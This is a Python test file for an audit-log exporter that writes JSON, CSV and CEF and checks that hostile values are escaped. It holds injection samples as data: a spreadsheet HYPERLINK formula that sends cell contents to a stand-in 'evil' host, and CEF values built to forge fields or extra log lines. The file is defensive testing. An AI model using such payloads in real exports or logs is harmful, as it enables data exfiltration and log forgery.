"""The log in the forms of other programs: whole, and with no value that breaks out of its place."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable
from typing import Any

import pytest

from loki_core.audit.chain import GENESIS, seal_entry
from loki_core.audit.events import AuditEntry, AuditEvent
from loki_core.audit.formats import FORMATS
from loki_core.audit.formats.cef import _NAMES, format_cef_line
from loki_core.audit.formats.csv_table import COLUMNS, escape_cell
from loki_core.audit.lines import LoggedLine, StoredLine, read_line
from loki_core.frozen import replace
from tests.core.workshop import NOON

ENTRY = AuditEntry(
    timestamp=NOON,
    event=AuditEvent.TOKEN_CREATE,
    user_id="os:alice",
    resource_id="tok-000000000001",
    ip_address="10.0.0.7",
    user_agent="curl/8",
    details={"name": "ci-bot"},
)
HEADER = re.compile(r"CEF:0((?:\|(?:[^|\\]|\\[|\\])*){6})\|(.*)\Z")
PAIR = re.compile(r"(?:^| )(\w+)=((?:[^=\\]|\\[=\\n])*)(?=$| \w+=)")


def _read(*entries: AuditEntry) -> list[LoggedLine]:
    lines = [read_line(StoredLine(data=seal_entry(entry, GENESIS, 7)[0])) for entry in entries]
    return [line for line in lines if line is not None]


def _foreign(**fields: Any) -> LoggedLine:
    whole = {"timestamp": "2026-03-01T12:00:00+00:00", **fields}
    line = read_line(StoredLine(data=json.dumps(whole).encode()))
    assert line is not None
    return line


def _write(form: str, lines: Iterable[LoggedLine]) -> str:
    return "".join(FORMATS[form](lines))


def _parse_cef(line: str) -> tuple[list[str], dict[str, str]]:
    found = HEADER.match(line)
    assert found is not None, line
    header = [re.sub(r"\\(.)", r"\1", part) for part in re.findall(r"\|((?:[^|\\]|\\.)*)", found[1])]
    pairs = PAIR.findall(found[2])
    assert " ".join(f"{key}={value}" for key, value in pairs) == found[2]
    return header, {key: re.sub(r"\\(.)", lambda m: "\n" if m[1] == "n" else m[1], value) for key, value in pairs}


def test_an_empty_log_is_an_empty_array_a_heading_and_nothing() -> None:
    assert json.loads(_write("json", [])) == []
    assert list(csv.reader(io.StringIO(_write("csv", [])))) == [list(COLUMNS)]
    assert _write("cef", []) == ""


def test_json_is_an_array_of_what_is_stored() -> None:
    lines = _read(ENTRY, replace(ENTRY, details={"name": "☃"}))
    assert json.loads(_write("json", lines)) == [json.loads(line.stored.data) for line in lines]


def test_csv_has_a_column_for_each_field_and_one_for_those_of_other_writers() -> None:
    lines = [*_read(ENTRY), _foreign(action="generate_token", user_id="bob", session={"id": 3})]
    first, second = csv.DictReader(io.StringIO(_write("csv", lines), newline=""))
    assert (first["seq"], first["level"], first["success"], first["other"]) == ("7", "notice", "true", "")
    assert json.loads(first["details"]) == {"name": "ci-bot"}
    assert (second["event"], second["action"], second["user_id"]) == ("generate_token", "generate_token", "bob")
    assert json.loads(second["other"]) == {"session": {"id": 3}}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\t=", "＝", "＠"])
def test_csv_injection_no_cell_is_a_formula(start: str) -> None:
    """Formula injection: a spreadsheet runs a cell that begins so (CWE-1236)."""
    evil = f'{start}HYPERLINK("http://evil/?"&A1,"ok")'
    assert escape_cell(evil).startswith("'")
    lines = [_foreign(**dict.fromkeys(("event", "user_id", "user_agent", "ip_address", "error", "seq"), evil))]
    (row,) = csv.DictReader(io.StringIO(_write("csv", lines), newline=""))
    for column in ("event", "user_id", "user_agent", "ip_address", "error", "seq"):
        assert row[column].startswith("'"), column
    for cells in csv.reader(io.StringIO(_write("csv", lines), newline="")):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)


def test_csv_injection_no_value_ends_its_row_or_cell() -> None:
    evil = 'a","b\r\n1,2,3\n"\x00,\u2028"'
    lines = [_foreign(user_agent=evil, user_id=evil, details={"name": evil}), *_read(ENTRY)]
    rows = list(csv.reader(io.StringIO(_write("csv", lines), newline="")))
    assert [len(row) for row in rows] == [len(COLUMNS)] * 3
    assert all(cell.isprintable() for row in rows for cell in row)


def test_cef_names_every_event_and_gives_its_level_as_a_severity() -> None:
    assert set(_NAMES) == set(AuditEvent)
    header, values = _parse_cef(format_cef_line(_read(ENTRY)[0]))
    assert (header[:2], header[3:]) == (["Loki Mode", "Loki"], ["auth.token.create", "Token created", "4"])
    assert values == {
        "rt": "1772366400000",
        "act": "create",
        "outcome": "success",
        "suser": "os:alice",
        "src": "10.0.0.7",
        "requestClientApplication": "curl/8",
        "externalId": "7",
        "cs1Label": "resourceType",
        "cs1": "token",
        "cs2Label": "resourceId",
        "cs2": "tok-000000000001",
        "cs4Label": "details",
        "cs4": '{"name": "ci-bot"}',
    }
    failed = replace(ENTRY, event=AuditEvent.FAIL, success=False, error="token_unknown", ip_address="fe80::1")
    header, values = _parse_cef(format_cef_line(_read(failed)[0]))
    assert (header[5], values["outcome"], values["reason"]) == ("6", "failure", "token_unknown")
    assert (values["c6a2"], values.get("src")) == ("fe80::1", None)


@pytest.mark.parametrize(
    "evil",
    ["a|b|10|act=x", "a=b act=evil suser=root", "back\\slash\\", "a\nCEF:0|x", "a\r\nb", "\\n", "x\\=y", "\u2028z\x85"],
)
def test_cef_injection_no_value_begins_a_field_or_a_line(evil: str) -> None:
    """CEF injection: `|` and `\\` in the header, `=`, `\\` and line breaks in values (CWE-117)."""
    names = ("event", "user_id", "user_agent", "ip_address", "error", "resource_id", "token_id", "resource_type")
    line = format_cef_line(_foreign(**dict.fromkeys(names, evil), details={"name": evil}))
    assert line.isprintable()
    header, values = _parse_cef(line)
    assert len(header) == 6
    assert set(values) <= {
        *("rt", "act", "outcome", "reason", "suser", "shost", "requestClientApplication"),
        *(f"cs{number}{what}" for number in range(1, 5) for what in ("", "Label")),
    }
    lines = evil.splitlines()
    assert values["suser"] == "\n".join(lines)
